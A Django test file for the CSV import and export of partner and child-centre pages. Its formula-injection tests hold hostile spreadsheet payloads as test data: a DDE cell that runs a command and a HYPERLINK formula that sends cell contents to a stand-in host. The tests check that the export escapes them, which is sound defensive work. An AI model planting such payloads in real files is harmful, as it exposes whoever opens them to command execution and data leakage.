import csv
import io
import tempfile
from datetime import date, time
from pathlib import Path

from django.core.management import CommandError, call_command
from django.test import SimpleTestCase, TestCase, override_settings
from django.utils import translation
from wagtail.models import Page, Revision

from partners.importexport import (
    CHILD_CENTRES,
    PARTNERS,
    CellError,
    CSVImportError,
    OpeningExceptions,
    OpeningHours,
    escape_formula,
    import_csv,
    read_csv,
    unescape_formula,
)
from partners.models import ChildCentrePage, PartnerPage
from tests.learningcity.utils import make_portal

from .factories import (
    ChildCentreIndexPageFactory,
    MunicipalityFactory,
    NetworkFactory,
    PartnerIndexPageFactory,
    PartnerPageFactory,
)

PARTNER_HEADER = [
    "external_id",
    "title",
    "kind",
    "sector",
    "summary",
    "email",
    "website",
    "street",
    "postcode",
    "municipality",
    "country",
    "opening_hours",
    "languages",
    "accessibility",
    "aspnet",
    "aspnet_since",
    "networks",
    "sdg_targets",
]


def partner_row(external_id="BS-001", **cells):
    row = {
        "external_id": external_id,
        "title": f"Basisschool {external_id}",
        "kind": "primary-school",
        "sector": "education",
        "summary": "Een school voor kinderen van 2,5 tot 12 jaar.",
        "email": "info@school.example",
        "website": "https://school.example/",
        "street": "Schoolstraat 1",
        "postcode": "9999",
        "municipality": "99001",
        "country": "BE",
        "opening_hours": "ma-di 08:30-15:30; wo 08:30-12:00; do-vr 08:30-15:30",
        "languages": "nl; fr",
        "accessibility": "step-free",
        "aspnet": "yes",
        "aspnet_since": "2019",
        "networks": "scholenplatform",
        "sdg_targets": "4.1; 4.7",
    }
    row.update(cells)
    return row


def to_csv(rows, header=PARTNER_HEADER, bom=False):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=header, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return ("\ufeff" if bom else "") + buffer.getvalue()


class ImportExportTestCase(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.home, cls.locales = make_portal()
        cls.index = PartnerIndexPageFactory(parent=cls.home)
        cls.centres = ChildCentreIndexPageFactory(parent=cls.home)
        cls.municipality = MunicipalityFactory(code="99001", name="Lindeveld")
        cls.network = NetworkFactory(slug="scholenplatform", name="Scholenplatform", locale=cls.locales["nl"])

    def setUp(self):
        # The importer's messages in English, as the commands give them (the admin shows them in Dutch).
        self.enterContext(translation.override("en"))
        self.tmp = tempfile.TemporaryDirectory()
        self.addCleanup(self.tmp.cleanup)

    def write(self, content: str, name="import.csv") -> str:
        path = Path(self.tmp.name) / name
        path.write_text(content, encoding="utf-8")
        return str(path)

    def call(self, command, *args, **options):
        out, err = io.StringIO(), io.StringIO()
        with self.captureOnCommitCallbacks(execute=True):
            call_command(command, *args, stdout=out, stderr=err, **options)
        return out.getvalue(), err.getvalue()

    def state(self):
        return Page.objects.count(), Revision.objects.count()


class ImportPartnersTests(ImportExportTestCase):
    def test_creates_published_pages_with_every_column(self):
        path = self.write(to_csv([partner_row("BS-001"), partner_row("BS-002", aspnet="no", aspnet_since="")]))
        out, err = self.call("import_partners", path)
        self.assertIn("Created 2, updated 0, unchanged 0 partners.", out)
        self.assertIn("checked 2/2 rows", err)
        page = PartnerPage.objects.get(external_id="BS-001")
        self.assertTrue(page.live)
        self.assertEqual(page.get_parent().specific, self.index)
        self.assertEqual(page.locale, self.locales["nl"])
        self.assertEqual(page.municipality, self.municipality)
        self.assertEqual(page.aspnet_since, 2019)
        self.assertEqual(sorted(page.languages.values_list("code", flat=True)), ["fr", "nl"])
        self.assertEqual(list(page.networks.all()), [self.network])
        self.assertEqual(sorted(page.sdg_targets.values_list("code", flat=True)), ["4.1", "4.7"])
        hours = [(h.first_day, h.last_day, h.opens, h.closes) for h in page.opening_hours.all()]
        self.assertEqual(hours[1], (2, 2, time(8, 30), time(12, 0)))
        # The tags travel with the revision, so a later publish from it keeps them.
        revision_page = page.get_latest_revision_as_object()
        self.assertEqual(sorted(t.code for t in revision_page.sdg_targets.all()), ["4.1", "4.7"])

    def test_a_second_import_of_the_same_file_changes_nothing(self):
        path = self.write(to_csv([partner_row("BS-001"), partner_row("BS-002")], bom=True))
        self.call("import_partners", path)
        before = self.state()
        out, _err = self.call("import_partners", path)
        self.assertIn("Nothing changed: all 2 partners in the file match the site.", out)
        self.assertEqual(self.state(), before)

    def test_a_changed_row_updates_the_page_with_its_external_id(self):
        self.call("import_partners", self.write(to_csv([partner_row("BS-001"), partner_row("BS-002")])))
        page = PartnerPage.objects.get(external_id="BS-001")
        revisions = page.revisions.count()
        changed = partner_row("BS-001", title="Basisschool De Linde", languages="nl; ar", sdg_targets="4.1")
        out, _err = self.call("import_partners", self.write(to_csv([changed, partner_row("BS-002")])))
        self.assertIn("Created 0, updated 1, unchanged 1 partners.", out)
        self.assertEqual(PartnerPage.objects.count(), 2)
        page.refresh_from_db()
        self.assertEqual(page.title, "Basisschool De Linde")
        self.assertEqual(page.revisions.count(), revisions + 1)
        self.assertFalse(page.has_unpublished_changes)
        self.assertEqual(sorted(page.languages.values_list("code", flat=True)), ["ar", "nl"])
        self.assertEqual(list(page.sdg_targets.values_list("code", flat=True)), ["4.1"])

    def test_columns_left_out_of_the_file_are_left_alone(self):
        self.call("import_partners", self.write(to_csv([partner_row("BS-001")])))
        header = ["external_id", "title", "kind", "sector", "summary"]
        row = {key: value for key, value in partner_row("BS-001", summary="Nieuw.").items() if key in header}
        self.call("import_partners", self.write(to_csv([row], header=header)))
        page = PartnerPage.objects.get(external_id="BS-001")
        self.assertEqual(page.summary, "Nieuw.")
        self.assertEqual(page.email, "info@school.example")
        self.assertEqual(page.networks.count(), 1)

    def test_dry_run_reports_and_writes_nothing(self):
        before = self.state()
        out, _err = self.call("import_partners", self.write(to_csv([partner_row()])), dry_run=True)
        self.assertIn("Dry run: would create 1", out)
        self.assertIn("nothing was written", out)
        self.assertEqual(self.state(), before)

    def test_bad_rows_are_reported_with_line_number_and_reason(self):
        cases = [
            ({"kind": "school"}, "Line 3: kind: unknown value 'school'; allowed: primary-school, secondary-school"),
            ({"municipality": "12345"}, "Line 3: municipality: unknown municipality code '12345'; known codes: 99001"),
            ({"postcode": "99"}, "Line 3: postcode: '99' is not a postcode of BE"),
            ({"email": "not-an-email"}, "Line 3: email: Enter a valid email address."),
            ({"website": "school"}, "Line 3: website: Enter a valid URL."),
            ({"title": ""}, "Line 3: title is required."),
            ({"languages": "nl; xx"}, "Line 3: languages: unknown language 'xx'; allowed: nl, fr, en"),
            ({"networks": "mos"}, "Line 3: networks: unknown network 'mos'; allowed: scholenplatform"),
            ({"sdg_targets": "4.9"}, "Line 3: sdg_targets: unknown SDG target '4.9'"),
            ({"opening_hours": "maandag 9-5"}, "Line 3: opening_hours: cannot read opening hours 'maandag 9-5'"),
            ({"opening_hours": "ma 17:00-09:00"}, "Line 3: opening_hours: The closing time must be after"),
            ({"aspnet": "no"}, "Line 3: aspnet_since: Only ASPnet member schools have a year of joining."),
            ({"aspnet": "perhaps"}, "Line 3: aspnet: 'perhaps' is not yes or no"),
        ]
        for cells, message in cases:
            with self.subTest(cells=cells):
                path = self.write(to_csv([partner_row("BS-001"), partner_row("BS-002", **cells)]))
                before = self.state()
                with self.assertRaisesMessage(CommandError, message) as raised:
                    self.call("import_partners", path)
                self.assertIn("Nothing was imported", str(raised.exception))
                self.assertEqual(self.state(), before)
                self.assertFalse(PartnerPage.objects.exists())

    def test_a_duplicate_external_id_in_the_file_names_both_lines(self):
        path = self.write(to_csv([partner_row("BS-001"), partner_row("BS-002"), partner_row("BS-001")]))
        with self.assertRaisesMessage(CommandError, "Line 4: external_id 'BS-001' is also on line 2."):
            self.call("import_partners", path)
        self.assertFalse(PartnerPage.objects.exists())

    def test_a_failing_import_leaves_existing_pages_and_revisions_unchanged(self):
        self.call("import_partners", self.write(to_csv([partner_row("BS-001")])))
        before = self.state()
        rows = [partner_row("BS-001", title="Nieuwe naam"), partner_row("BS-002"), partner_row("BS-003", kind="x")]
        with self.assertRaises(CommandError):
            self.call("import_partners", self.write(to_csv(rows)))
        self.assertEqual(self.state(), before)
        self.assertEqual(PartnerPage.objects.get().title, "Basisschool BS-001")

    def test_header_problems_are_reported(self):
        cases = [
            (["external_id", "title", "kind", "summary"], "Line 1: missing required column(s): sector."),
            (PARTNER_HEADER + ["colour"], "Line 1: unknown column(s): colour; allowed: external_id, title"),
        ]
        for header, message in cases:
            with self.subTest(header=header), self.assertRaisesMessage(CommandError, message):
                self.call("import_partners", self.write(",".join(header) + "\n"))

    def test_unreadable_files_give_a_clear_error(self):
        latin1 = Path(self.tmp.name) / "latin1.csv"
        latin1.write_bytes("external_id,title\nX,Café\n".encode("latin-1"))
        cases = [
            (str(latin1), "The file is not UTF-8 text"),
            (self.write(""), "The file is empty; it needs a header row."),
            (str(Path(self.tmp.name) / "missing.csv"), "Cannot read the file"),
        ]
        for path, message in cases:
            with self.subTest(message=message), self.assertRaisesMessage(CommandError, message):
                self.call("import_partners", path)

    def test_parent_option_must_name_a_partner_directory(self):
        path = self.write(to_csv([partner_row()]))
        with self.assertRaisesMessage(CommandError, "is not a partner directory"):
            self.call("import_partners", path, parent=self.home.pk)
        self.call("import_partners", path, parent=self.index.pk)
        self.assertEqual(PartnerPage.objects.get().get_parent().pk, self.index.pk)

    def test_progress_is_shown_every_hundred_rows(self):
        rows = [partner_row(f"BS-{number:03d}") for number in range(150)]
        _out, err = self.call("import_partners", self.write(to_csv(rows)), dry_run=True)
        self.assertEqual(err.splitlines(), ["checked 100/150 rows", "checked 150/150 rows"])


class RoundTripTests(ImportExportTestCase):
    def export(self, command="export_partners"):
        path = Path(self.tmp.name) / f"{command}.csv"
        self.call(command, str(path))
        return path.read_text(encoding="utf-8")

    def test_export_wipe_import_export_gives_the_identical_file(self):
        rows = [
            partner_row("BS-001", opening_hours="ma-vr 08:30-17:00; za 10:00-12:00"),
            partner_row("BIB-001", kind="library", sector="government", aspnet="no", aspnet_since="", networks=""),
        ]
        self.call("import_partners", self.write(to_csv(rows)))
        page = PartnerPage.objects.get(external_id="BIB-001")
        page.opening_hours_exceptions.create(date=date(2026, 12, 24), closed=False, opens=time(10), closes=time(12))
        page.latitude, page.longitude = "51.054300", "3.717400"
        page.save()
        first = self.export()
        self.assertIn("2026-12-24 10:00-12:00", first)
        self.assertIn("ma-vr 08:30-17:00; za 10:00-12:00", first)

        before = self.state()
        out, _err = self.call("import_partners", self.write(first, "export.csv"))
        self.assertIn("Nothing changed", out)
        self.assertEqual(self.state(), before)

        PartnerPage.objects.all().delete()
        self.call("import_partners", self.write(first, "export.csv"))
        self.assertEqual(self.export(), first)

    def test_pages_without_an_external_id_are_left_out_with_a_warning(self):
        PartnerPageFactory(parent=self.index, title="Zonder nummer", municipality=self.municipality)
        path = Path(self.tmp.name) / "out.csv"
        out, err = self.call("export_partners", str(path))
        self.assertIn("Exported 0 partners", out)
        self.assertIn("Left out 'Zonder nummer'", err)

    def test_child_centres_round_trip_with_member_partners(self):
        self.call("import_partners", self.write(to_csv([partner_row("BS-001"), partner_row("BS-002")])))
        header = CHILD_CENTRES.header
        row = dict.fromkeys(header, "")
        row.update(
            external_id="IKC-1",
            title="Kindcentrum De Linde",
            summary="Opvang en school onder één dak.",
            min_age_months="3",
            max_age_months="155",
            services="childcare; pre-school",
            member_partners="BS-002; BS-001",
            capacity="120",
            municipality="99001",
            postcode="9999",
            opening_hours="ma-vr 07:00-18:30",
            opening_exceptions="2026-12-25 gesloten",
            sdg_targets="4.2; 10.2",
        )
        out, _err = self.call("import_childcentres", self.write(to_csv([row], header=header)))
        self.assertIn("Created 1", out)
        centre = ChildCentrePage.objects.get()
        self.assertEqual(centre.get_parent().pk, self.centres.pk)
        self.assertEqual(sorted(centre.member_partners.values_list("external_id", flat=True)), ["BS-001", "BS-002"])
        first = self.export("export_childcentres")
        self.assertIn("BS-001; BS-002", first)
        self.assertIn("2026-12-25 gesloten", first)
        out, _err = self.call("import_childcentres", self.write(first, "centres.csv"))
        self.assertIn("Nothing changed", out)
        ChildCentrePage.objects.all().delete()
        self.call("import_childcentres", self.write(first, "centres.csv"))
        self.assertEqual(self.export("export_childcentres"), first)

    def test_child_centre_errors_name_the_column(self):
        header = ["external_id", "title", "summary", "min_age_months", "max_age_months", "member_partners"]
        cases = [
            ({"member_partners": "NOPE"}, "Line 2: member_partners: unknown partner external_id 'NOPE'"),
            ({"min_age_months": "60", "max_age_months": "12"}, "Line 2: max_age_months: The oldest age is below"),
            ({"max_age_months": "twelve"}, "Line 2: max_age_months: 'twelve' is not a whole number"),
        ]
        for cells, message in cases:
            row = {"external_id": "IKC-1", "title": "Kindcentrum", "summary": "Samen.", **cells}
            with self.subTest(cells=cells), self.assertRaisesMessage(CommandError, message):
                self.call("import_childcentres", self.write(to_csv([row], header=header)))
        self.assertFalse(ChildCentrePage.objects.exists())


class ImportUnitTests(ImportExportTestCase):
    def test_import_csv_raises_with_every_error_of_the_file(self):
        source = io.StringIO(to_csv([partner_row("A", kind="x"), partner_row("B", sector="y")]))
        with self.assertRaises(CSVImportError) as raised:
            import_csv(source, PARTNERS)
        self.assertEqual(len(raised.exception.errors), 2)
        self.assertTrue(raised.exception.errors[0].startswith("Line 2: kind:"))
        self.assertTrue(raised.exception.errors[1].startswith("Line 3: sector:"))

    def test_quoted_values_with_line_breaks_keep_line_numbers_right(self):
        content = to_csv([partner_row("A", summary="Regel een\nregel twee"), partner_row("B", kind="x")])
        with self.assertRaisesMessage(CSVImportError, "Line 4: kind"):
            import_csv(io.StringIO(content), PARTNERS)


class OpeningHoursNotationTests(SimpleTestCase):
    def test_opening_hours_round_trip(self):
        codec = OpeningHours()
        for cell in ("ma-vr 08:30-17:00; za 10:00-12:00", "zo 09:00-12:00", ""):
            with self.subTest(cell=cell):
                self.assertEqual(codec.format(codec.parse(cell, None)), cell)
        self.assertEqual(
            codec.format(codec.parse("MA-VR 8:30-17:00;za 10:00-12:00", None)), "ma-vr 08:30-17:00; za 10:00-12:00"
        )

    def test_exceptions_round_trip(self):
        codec = OpeningExceptions()
        cell = "2026-12-24 08:30-12:00; 2026-12-25 gesloten"
        self.assertEqual(codec.format(codec.parse(cell, None)), cell)
        self.assertEqual(codec.parse("2026-12-25 closed", None), [(date(2026, 12, 25), True, None, None)])

    def test_unreadable_notations_say_what_to_write(self):
        for codec, cell in [
            (OpeningHours(), "xx 08:00-09:00"),
            (OpeningHours(), "ma 25:00-26:00"),
            (OpeningExceptions(), "2026-02-30 gesloten"),
            (OpeningExceptions(), "2026-12-25 misschien"),
        ]:
            with self.subTest(cell=cell), self.assertRaises(CellError):
                codec.parse(cell, None)

    def test_read_csv_accepts_a_byte_order_mark(self):
        header, rows = read_csv(io.BytesIO("\ufeffexternal_id,title\nA,Één\n".encode()))
        self.assertEqual(header, ["external_id", "title"])
        self.assertEqual(rows, [(2, {"external_id": "A", "title": "Één"})])


class FormulaInjectionTests(ImportExportTestCase):
    """Cells a spreadsheet would run as a formula are exported with a leading quote, which the import takes off."""

    def export_rows(self, command="export_partners"):
        path = Path(self.tmp.name) / f"{command}.csv"
        self.call(command, str(path))
        with path.open(encoding="utf-8", newline="") as handle:
            content = handle.read()
        return content, {row["external_id"]: row for row in csv.DictReader(io.StringIO(content, newline=""))}

    def test_export_neutralises_formulas_an_editor_typed(self):
        PartnerPageFactory(
            parent=self.index,
            external_id="EVIL-1",
            title="@SUM(1+1)*cmd|' /C calc'!A0",
            phone='=HYPERLINK("//x.test?"&A2)',
            summary="+1+1",
            street="-2+3",
            municipality=self.municipality,
        )
        PartnerPageFactory(parent=self.index, external_id="EVIL-2", summary="\t=1+1", street="\r=1+1")
        content, rows = self.export_rows()
        self.assertEqual(rows["EVIL-1"]["phone"], '\'=HYPERLINK("//x.test?"&A2)')
        self.assertEqual(rows["EVIL-1"]["title"], "'@SUM(1+1)*cmd|' /C calc'!A0")
        self.assertEqual(rows["EVIL-1"]["summary"], "'+1+1")
        self.assertEqual(rows["EVIL-1"]["street"], "'-2+3")
        self.assertEqual(rows["EVIL-2"]["summary"], "'\t=1+1")
        self.assertEqual(rows["EVIL-2"]["street"], "'\r=1+1")
        # A carriage return inside a cell is quoted, so it cannot start a row whose first cell is a formula.
        self.assertIn('"\'\r=1+1"', content)
        for row in rows.values():
            for name, cell in row.items():
                with self.subTest(column=name, cell=cell):
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")))

    def test_child_centre_export_neutralises_formulas_too(self):
        centre = ChildCentrePage(
            title="Kindcentrum", summary="=1+1", phone="+32 9 123 45 67", external_id="IKC-1", slug="ikc"
        )
        self.centres.add_child(instance=centre)
        _content, rows = self.export_rows("export_childcentres")
        self.assertEqual(rows["IKC-1"]["summary"], "'=1+1")
        self.assertEqual(rows["IKC-1"]["phone"], "'+32 9 123 45 67")

    def test_export_then_import_round_trip_is_exact(self):
        values = {
            "BS-001": {"phone": "+32 9 123 45 67", "summary": "=1+1 is geen formule", "street": "-"},
            "BS-002": {"phone": "@school", "summary": "'=quote en formule", "street": "'t Hofje 3"},
            "BS-003": {"phone": "09 123 45 67", "summary": "'s-Hertogenbosch\r=1+1", "street": "''=twee quotes"},
        }
        for external_id, fields in values.items():
            PartnerPageFactory(parent=self.index, external_id=external_id, municipality=self.municipality, **fields)
        first, rows = self.export_rows()
        # A leading "+" of a phone number is kept, behind the quote a spreadsheet shows as text.
        self.assertEqual(rows["BS-001"]["phone"], "'+32 9 123 45 67")
        self.assertEqual(rows["BS-003"]["summary"], "'s-Hertogenbosch\r=1+1")
        self.assertEqual(rows["BS-002"]["street"], "'t Hofje 3")

        out, _err = self.call("import_partners", self.write(first, "export.csv"))
        self.assertIn("Nothing changed", out)
        PartnerPage.objects.all().delete()
        self.call("import_partners", self.write(first, "export.csv"))
        for external_id, fields in values.items():
            page = PartnerPage.objects.get(external_id=external_id)
            for name, value in fields.items():
                with self.subTest(external_id=external_id, field=name):
                    self.assertEqual(getattr(page, name), value)
        self.assertEqual(self.export_rows()[0], first)

    def test_hand_written_phone_numbers_import_with_or_without_the_quote(self):
        header = [*PARTNER_HEADER, "phone"]
        rows = [partner_row("BS-001", phone="+32 9 123 45 67"), partner_row("BS-002", phone="'+32 9 765 43 21")]
        self.call("import_partners", self.write(to_csv(rows, header=header)))
        self.assertEqual(PartnerPage.objects.get(external_id="BS-001").phone, "+32 9 123 45 67")
        self.assertEqual(PartnerPage.objects.get(external_id="BS-002").phone, "+32 9 765 43 21")


class FormulaEscapeUnitTests(SimpleTestCase):
    def test_escape_prefixes_only_cells_that_start_a_formula(self):
        cases = [
            ("=1+1", "'=1+1"),
            ("+32 9 123 45 67", "'+32 9 123 45 67"),
            ("-3.7", "'-3.7"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("'s-Hertogenbosch", "'s-Hertogenbosch"),
            ("09 123 45 67", "09 123 45 67"),
            ("a=b", "a=b"),
            ("", ""),
        ]
        for value, cell in cases:
            with self.subTest(value=value):
                self.assertEqual(escape_formula(value), cell)
                self.assertEqual(unescape_formula(cell), value)

    def test_unescape_undoes_escape_for_every_value(self):
        pieces = ["", "'", "''", "=", "+", "-", "@", "\t", "\r", "a", " "]
        for first in pieces:
            for second in pieces:
                for third in pieces:
                    value = first + second + third
                    with self.subTest(value=value):
                        self.assertEqual(unescape_formula(escape_formula(value)), value)


class ImportLimitTests(ImportExportTestCase):
    def test_a_file_over_the_size_limit_is_refused_before_it_is_read(self):
        path = self.write(to_csv([partner_row(f"BS-{number:03d}") for number in range(20)]))
        before = self.state()
        with (
            override_settings(LEERSTAD_CSV_IMPORT_MAX_BYTES=1000),
            self.assertRaisesMessage(CommandError, "an import takes at most 1,000 bytes") as raised,
        ):
            self.call("import_partners", path)
        self.assertIn("LEERSTAD_CSV_IMPORT_MAX_BYTES", str(raised.exception))
        self.assertEqual(self.state(), before)

    def test_a_file_over_the_row_limit_is_refused_naming_the_limit(self):
        path = self.write(to_csv([partner_row(f"BS-{number:03d}") for number in range(11)]))
        with (
            override_settings(LEERSTAD_CSV_IMPORT_MAX_ROWS=10),
            self.assertRaisesMessage(
                CommandError, "Line 12: the file has more than 10 rows; an import takes at most 10"
            ),
        ):
            self.call("import_partners", path, dry_run=True)
        self.assertFalse(PartnerPage.objects.exists())
        with override_settings(LEERSTAD_CSV_IMPORT_MAX_ROWS=11):
            out, _err = self.call("import_partners", path, dry_run=True)
        self.assertIn("would create 11", out)

    def test_the_limits_default_to_five_megabytes_and_ten_thousand_rows(self):
        rows = [partner_row(f"BS-{number:05d}", opening_hours="", sdg_targets="") for number in range(10_001)]
        with self.assertRaisesMessage(CSVImportError, "more than 10,000 rows"):
            read_csv(io.StringIO(to_csv(rows)))
        with self.assertRaisesMessage(CSVImportError, "at most 5,242,880 bytes"):
            read_csv(io.StringIO("external_id,title\n" + ("A," + "b" * 1000 + "\n") * 5300))

    def test_a_huge_stream_is_read_only_up_to_the_limit(self):
        class EndlessCSV(io.RawIOBase):
            """A million-row file that is never in memory: it counts what the import reads."""

            def __init__(self):
                self.lines = 0
                self.read_bytes = 0

            def readable(self):
                return True

            def readline(self, size=-1):
                line = b"external_id,title,kind,sector,summary\n" if not self.lines else b"X,T,library,government,S\n"
                self.lines += 1
                if self.lines > 1_000_000:
                    return b""
                self.read_bytes += len(line)
                return line

        for settings, message in [
            ({"LEERSTAD_CSV_IMPORT_MAX_ROWS": 1000}, "more than 1,000 rows"),
            ({"LEERSTAD_CSV_IMPORT_MAX_BYTES": 10_000}, "at most 10,000 bytes"),
        ]:
            source = EndlessCSV()
            with self.subTest(settings), override_settings(**settings):
                with self.assertRaisesMessage(CSVImportError, message):
                    import_csv(source, PARTNERS, dry_run=True)
                self.assertLess(source.lines, 1100)
                self.assertLess(source.read_bytes, 40_000)

    def test_a_file_without_line_breaks_is_not_read_past_the_limit(self):
        class OneLongLine(io.RawIOBase):
            def readable(self):
                return True

            def readline(self, size=-1):
                assert 0 < size <= 1001, size
                return b"x" * size

        with (
            override_settings(LEERSTAD_CSV_IMPORT_MAX_BYTES=1000),
            self.assertRaisesMessage(CSVImportError, "too large"),
        ):
            read_csv(OneLongLine())

    def test_nul_bytes_are_refused_with_their_line_number_and_nothing_is_written(self):
        content = to_csv([partner_row("BS-001"), partner_row("BS-002", summary="Een\x00school"), partner_row("BS-003")])
        path = Path(self.tmp.name) / "nul.csv"
        path.write_bytes(content.encode())
        with self.assertRaisesMessage(CommandError, "Line 3: contains a NUL character") as raised:
            self.call("import_partners", str(path))
        self.assertIn("Nothing was imported: 1 problem", str(raised.exception))
        self.assertFalse(PartnerPage.objects.exists())

    def test_a_binary_file_gives_a_message_not_a_traceback(self):
        path = Path(self.tmp.name) / "image.csv"
        path.write_bytes(b"\x00\x01PK\x03\x04" + bytes(range(256)))
        with self.assertRaisesMessage(CommandError, "Nothing was imported"):
            self.call("import_partners", str(path))

    def test_every_bad_row_is_reported_not_only_the_first(self):
        rows = [partner_row("BS-001", kind="x"), partner_row("BS-002"), partner_row("BS-003", summary="a\x00b")]
        content = to_csv(rows) + "A,B,C,D,E," + "," * len(PARTNER_HEADER) + "\n"
        with self.assertRaises(CSVImportError) as raised:
            import_csv(io.StringIO(content), PARTNERS)
        self.assertEqual([error.split(":")[0] for error in raised.exception.errors], ["Line 4", "Line 5"])
        self.assertFalse(PartnerPage.objects.exists())

    def test_verbose_import_reports_every_row_with_its_line(self):
        self.call("import_partners", self.write(to_csv([partner_row("BS-001")])))
        rows = [partner_row("BS-001"), partner_row("BS-002"), partner_row("BS-003", title="Nieuw")]
        self.call("import_partners", self.write(to_csv(rows[:2])))
        out, _err = self.call("import_partners", self.write(to_csv(rows)), verbosity=2)
        self.assertIn("  = line 2: BS-001 (Basisschool BS-001)", out)
        self.assertIn("  = line 3: BS-002 (Basisschool BS-002)", out)
        self.assertIn("  + line 4: BS-003 (Nieuw)", out)
